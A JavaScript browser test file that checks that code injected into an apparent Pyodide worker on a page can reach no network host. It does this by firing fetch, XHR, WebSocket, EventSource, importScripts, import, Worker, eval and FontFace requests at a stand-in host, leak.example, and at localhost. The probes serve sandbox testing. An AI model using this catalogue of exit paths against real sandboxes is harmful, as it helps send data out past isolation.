/** A change, which may have come with a link, cannot send anything: Python and JavaScript in the worker reach no host. */
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { file, launched, missing, served } from "./browser.mjs";
import { change, checked, makeLive, open, outcome, sleep } from "./reader.mjs";

// All ways out of a worker, each with an address of its own.
const WAYS = {
  fetch: "fetch(U)",
  request: "(x => (x.open('GET', U), x.send()))(new XMLHttpRequest())",
  socket: "new WebSocket(U.replace('http', 'ws'))",
  events: "new EventSource(U)",
  scripts: "importScripts(U)",
  module: "import(U)",
  worker: "new Worker(U)",
  evaluated: "(0, eval)('import(U)')",
  font: "new FontFace('f', 'url(' + U + ')').load()",
};

function attempts(root) {
  const ways = Object.entries(WAYS).map(([name, way]) => `()=>{const U=globalThis.U='${root}${name}';return ${way}}`);
  return `globalThis['${root}']??=[${ways.join(",")}].map(f=>{try{f()?.catch?.(()=>0)}catch{};return 1}).length`;
}

for (const name of ["chromium", "firefox"]) {
  describe(name, { skip: missing(name) }, () => {
    let browser;
    let server;

    before(async () => {
      server = await served();
      browser = await launched(name);
    });
    after(async () => {
      await browser?.close();
      server?.close();
    });

    for (const [where, address] of [["a file", () => file()], ["a static server", () => server.address()]]) {
      test(`a change on a page from ${where} reaches no host`, async () => {
        const page = await browser.page();
        await open(page, address());
        await makeLive(page);
        const roots = ["http://leak.example/", `http://localhost:${new URL(server.root).port}/`];
        const tried = roots.map((root) => `js.eval("${attempts(root)}")`).join(" + ");
        await checked(page, () => change(page, "variance = k", `import js; raise KeyError("tried", ${tried})`
          + "; variance = k"));
        assert.match(await outcome(page), new RegExp(`tried.*${roots.length * Object.keys(WAYS).length}`));
        await sleep(1000);
        assert.deepEqual(browser.left(), []);
        assert.deepEqual(server.asked.filter((path) => path.slice(1) in WAYS), []);
      });
    }

    test("Python's own ways give nothing", async () => {
      const page = await browser.page();
      await open(page, file());
      await makeLive(page);
      const probe = "import js, pyodide.http as h; raise KeyError([str(getattr(js, n, None)) for n in "
        + "('fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'Worker')])";
      await checked(page, () => change(page, "variance = k", `${probe}; variance = k`));
      assert.match(await outcome(page), /\['(None|undefined)'(, '(None|undefined)'){5}\]/);
    });
  });
}
